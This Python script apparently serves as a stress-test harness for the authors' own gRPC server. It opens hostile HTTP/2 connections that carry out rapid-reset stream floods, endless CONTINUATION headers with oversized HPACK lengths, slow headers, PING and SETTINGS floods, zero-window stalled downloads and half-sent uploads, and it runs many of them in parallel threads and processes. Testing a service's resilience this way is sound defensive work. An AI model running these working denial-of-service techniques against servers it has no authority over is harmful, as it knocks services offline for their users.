#!/usr/bin/python3
"""Hostile connections. The function of each kind connects once, and violates the protocol until the time `until` (time.monotonic)
or until the server cuts the connection. It returns the number of bytes sent. With a token, the connection first makes a valid call.

    hostile.py KIND ADDRESS --seconds S [--connections N] [--token TOKEN] [--job-id ID]

makes N such connections at a time, and replaces connections that are cut.
"""
import argparse
import functools
import os
import pathlib
import subprocess
import sys
import threading
import time

import http2
from http2 import CONTINUATION, HEADERS, PING, RESET, SETTINGS, Connection, frame

LARGE_WINDOW = b"\0\4\x7f\xff\xff\xff"  # SETTINGS_INITIAL_WINDOW_SIZE
ZERO_WINDOW = b"\0\4\0\0\0\0"
CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(505)


def _connected(address, token):
    return http2.admitted(address, token) if token else Connection(address).greet()


def _repeat(connection, data, until, pause=0.0):
    """Sends the same bytes again and again. Never reads."""
    sent = 0
    while time.monotonic() < until and connection.send(data, max(0.0, until - time.monotonic())):
        sent += len(data)
        time.sleep(pause)
    return sent


def _hold(connection, until):
    connection.is_closed_within(max(0.0, until - time.monotonic()))
    return 0


def silent(address, until, token=None):
    """Connects and sends nothing."""
    with (_connected(address, token) if token else Connection(address)) as connection:
        return _hold(connection, until)


def garbage(address, until, token=None):
    """Sends random bytes instead of the preface."""
    with Connection(address) as connection:
        return _repeat(connection, os.urandom(65536), until)


def client_hello(address, until, token=None):
    """Begins a TLS handshake."""
    with Connection(address) as connection:
        connection.send(CLIENT_HELLO)
        return _hold(connection, until)


# Headers that never end. A literal whose length is 2,000,000,000; a length with endless zeros; endless headers.
ENDLESS_HEADERS = {
    "long name": (b"\x40\x7f\x81\xa8\xd6\xb9\x07" + b"x" * 16000, b"x" * 16000),
    "long length": (b"\x40\x7f" + b"\x80" * 16000, b"\x80" * 16000),
    "many headers": (http2.header("a", "1" * 1000) * 15,) * 2,
}


def endless_header(address, until, token=None, kind="long name", pause=0.0):
    """Sends HEADERS without END_HEADERS, then CONTINUATION frames."""
    begin, more = ENDLESS_HEADERS[kind]
    with _connected(address, token) as connection:
        connection.send(frame(HEADERS, begin, 0, 3))
        return len(begin) + _repeat(connection, frame(CONTINUATION, more, 0, 3), until, pause)


def slow_header(address, until, token=None, pause=1.0):
    """Sends a HEADERS frame byte by byte."""
    with _connected(address, token) as connection:
        data, sent = http2.call_head(3, "Describe"), 0
        while sent < len(data) - 1 and time.monotonic() < until and connection.send(data[sent:sent + 1]):
            sent += 1
            time.sleep(pause)
        return sent


# Calls that are reset: only begun, whole, and begun without a token.
RESET_CALLS = {
    "rapid reset": lambda stream, token: http2.call_head(stream, "Detect", token),
    "rapid reset of whole calls": lambda stream, token: http2.unary_call(stream, "Describe", b"", token),
    "rapid reset without a token": lambda stream, token: http2.call_head(stream, "Detect"),
}


def rapid_reset(address, until, token=None, kind="rapid reset", batch=500):
    """Opens calls, and resets each at once."""
    sent, stream = 0, 3
    with _connected(address, token) as connection:
        while time.monotonic() < until:
            data = b"".join(RESET_CALLS[kind](one, token) + frame(RESET, b"\0\0\0\x08", 0, one)
                            for one in range(stream, stream + 2 * batch, 2))
            stream += 2 * batch
            if not connection.send(data, max(0.0, until - time.monotonic())):
                break
            sent += len(data)
    return sent


def ping_flood(address, until, token=None):
    """Sends PING frames, and reads no answer."""
    with _connected(address, token) as connection:
        return _repeat(connection, frame(PING, b"12345678") * 1000, until)


def settings_flood(address, until, token=None):
    """Sends SETTINGS frames, and reads no answer."""
    with _connected(address, token) as connection:
        return _repeat(connection, frame(SETTINGS, LARGE_WINDOW) * 1000, until)


def tokenless_calls(address, until, token=None, batch=50):
    """Makes complete calls without a token, and reads the answers."""
    sent, stream = 0, 1
    with Connection(address).greet() as connection:
        while time.monotonic() < until and not connection.closed:
            data = b"".join(http2.unary_call(one, "Describe") for one in range(stream, stream + 2 * batch, 2))
            stream += 2 * batch
            connection.send(data)
            connection.wait_for_end(batch, max(0.0, until - time.monotonic()))
            sent += len(data)
    return sent


def health_watch(address, until, token=None):
    """Watches the health, which needs no token, and never ends."""
    with Connection(address).greet() as connection:
        connection.send(http2.unary_call(1, "/grpc.health.v1.Health/Watch"))
        return _hold(connection, until)


def start_unread_results(address, token, job_id, streams):
    """Starts downloads of a large result, with windows that admit no byte. Returns the connection."""
    request = b"\x0a" + bytes([len(job_id)]) + job_id.encode()  # ResultRequest.id
    connection = http2.admitted(address, token)
    connection.send(frame(SETTINGS, ZERO_WINDOW))
    for stream in range(3, 3 + 2 * streams, 2):
        connection.send(http2.unary_call(stream, "Result", request, token))
    return connection


def unread_results(address, until, token, job_id="", streams=50):
    """Starts downloads of a large result, and reads nothing."""
    with start_unread_results(address, token, job_id, streams):
        time.sleep(max(0.0, until - time.monotonic()))
        return 0


def half_uploads(address, until, token, streams=10):
    """Starts uploads of 100,000 boxes, and sends half of their bytes."""
    sent = 0
    with http2.admitted(address, token) as connection:
        for stream in range(3, 3 + 2 * streams, 2):
            connection.send(http2.call_head(stream, "Detect", token))
            for piece in [_upload_head(stream), *[b"\x7a\xe0\xd4\x03" + bytes(60_000)] * 20]:
                left = until - time.monotonic()
                if left <= 0 or not connection.send_data(stream, http2.message(piece), 0, left):
                    return sent
                sent += len(piece)
        return sent + _hold(connection, until)


def _upload_head(stream):
    """Returns an Upload whose spec has an id and 100,000 boxes."""
    spec = b"\x0a\x24%08x-0000-4000-8000-%012x" % (stream, time.monotonic_ns() % 16**12) + b"\x12\x04\x08\xa0\x8d\x06"
    return b"\x0a" + bytes([len(spec)]) + spec


KINDS = {"silent": silent, "garbage": garbage, "client hello": client_hello, "slow header": slow_header,
         "ping flood": ping_flood, "settings flood": settings_flood,
         "tokenless calls": tokenless_calls, "health watch": health_watch, "unread results": unread_results,
         "half uploads": half_uploads,
         **{kind: functools.partial(rapid_reset, kind=kind) for kind in RESET_CALLS},
         **{f"endless header, {kind}": functools.partial(endless_header, kind=kind) for kind in ENDLESS_HEADERS}}


def repeat(kind, address, seconds, **options):
    """Makes connections of a kind, one after the other, for this time. Returns the bytes sent."""
    until, sent = time.monotonic() + seconds, 0
    while time.monotonic() < until:
        try:
            sent += KINDS[kind](address, until, **options)
        except (OSError, RuntimeError):
            time.sleep(0.01)
    return sent


def start(kind, address, seconds, connections, token=None, job_id=None, nice=0):
    """Starts a process that makes connections of a kind. Returns the process."""
    words = ["nice", "-n", str(nice), sys.executable, str(pathlib.Path(__file__).resolve()), kind, address,
             "--seconds", str(seconds), "--connections", str(connections)]
    words += ["--token", token] if token else []
    words += ["--job-id", job_id] if job_id else []
    return subprocess.Popen(words)


def main():
    """Runs the command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--token")
    parser.add_argument("--job-id")
    given = parser.parse_args()
    options = {"token": given.token, **({"job_id": given.job_id} if given.job_id else {})}
    threads = [threading.Thread(target=repeat, args=(given.kind, given.address, given.seconds), kwargs=options)
               for _ in range(given.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
